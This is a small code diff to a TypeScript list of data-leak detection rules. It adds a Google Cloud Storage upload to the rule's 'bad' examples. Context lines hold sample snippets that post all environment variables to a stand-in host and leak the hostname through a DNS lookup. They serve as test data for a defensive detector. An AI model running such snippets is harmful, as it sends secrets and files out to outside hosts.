@@ -82,6 +82,7 @@ export const leakRules: readonly Rule[] = [
       bad: [
         "import requests\nrequests.post('https://x.org', json={'a': 1})",
         "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
+        "from google.cloud import storage\nstorage.Client().bucket('b').blob('x').upload_from_filename('report.csv')",
         { language: 'javascript', code: "require('dns').lookup(require('os').hostname() + '.x.org', f)" },
         {
           language: 'javascript',
